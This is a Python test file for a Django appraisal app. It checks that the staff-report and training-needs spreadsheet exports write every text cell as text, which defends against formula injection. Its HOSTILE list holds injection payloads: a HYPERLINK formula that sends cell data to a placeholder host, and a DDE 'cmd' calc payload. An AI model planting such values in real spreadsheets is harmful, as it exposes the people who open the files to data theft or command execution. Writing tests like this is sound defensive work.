"""Issue 10, point 8: no spreadsheet export writes a formula. A last name such as
«=HYPERLINK(…)» entered in the staff list (by hand or by the staff import) reaches the R8
decision report and the R9 training-needs workbook; every text cell must be stored as text.
Checked by reopening each file and reading every cell's type."""

import io

import openpyxl
import pytest
import time_machine
from django.urls import reverse

from appraisal.pdf import workbook_bytes
from tests.factories import quarter

HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1,"Нажмите")', "+7701-SUM(1)", "-2+3", "@SUM(A1:A2)",
           "=cmd|' /C calc'!A0"]


def _cells(content: bytes):
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_no_formula(content: bytes, *expected_texts):
    cells = _cells(content)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    # and Excel keeps them text when such a cell is edited: the quote prefix is set
    assert not [c.coordinate for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@" and not c.quotePrefix]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for text in expected_texts:
        assert any(text in t for t in texts), text


def test_xlsx_every_text_cell_is_written_as_text_numbers_stay_numbers():
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append([*HOSTILE, 3.25, 7])
    other = workbook.create_sheet("Второй")
    other["B2"] = "=1+1"
    content = workbook_bytes(workbook)
    _assert_no_formula(content, *HOSTILE, "=1+1")
    values = [c.value for c in openpyxl.load_workbook(io.BytesIO(content)).active[1]]
    assert values == [*HOSTILE, 3.25, 7]
    assert [c.data_type for c in openpyxl.load_workbook(io.BytesIO(content)).active[1]][-2:] == ["n", "n"]


def test_R8_decision_report_xlsx_writes_a_hostile_name_as_text(client, org):
    from tests.ranking.conftest import AFTER_Q3, approve_quarter
    from tests.ranking.test_pdf_and_report import rank

    with time_machine.travel(AFTER_Q3, tick=False):
        org.staff[0].last_name = HOSTILE[0]
        org.staff[0].save()
        org.staff[1].last_name = HOSTILE[1]
        org.staff[1].save()
        approve_quarter(org)
        rank(org, quarter(2026, 3), [(5, 4, 4, 4), (3, 3, 4, 3), (2, 2, 2, 1)])
        client.force_login(org.chief.user)
        response = client.get(reverse("ranking:report", args=[quarter(2026, 3).pk]), {"format": "xlsx"})
    assert response.status_code == 200
    _assert_no_formula(response.content, HOSTILE[0], HOSTILE[1])


@pytest.mark.django_db
def test_R9_training_needs_xlsx_writes_a_hostile_name_as_text(client):
    from survey360 import services
    from tests.conftest import make_org
    from tests.survey360.conftest import IN_COLLECTING, approved_year_schedule
    from tests.survey360.test_views import _finished

    with time_machine.travel(IN_COLLECTING, tick=False):
        org = make_org(2)
        org.staff[0].last_name = HOSTILE[4]
        org.staff[0].save()
        schedule = approved_year_schedule(org)
        org.campaign = services.create_campaign(organisation=org.organisation, period=schedule.period,
                                                by=org.chief.user)
        services.open_campaign(campaign=org.campaign, by=org.chief.user)
        org.campaign.refresh_from_db()
        _finished(org)
        client.force_login(org.chief.user)
        response = client.get(reverse("survey360:training_xlsx", args=[org.campaign.pk]))
    assert response.status_code == 200
    _assert_no_formula(response.content, HOSTILE[4])
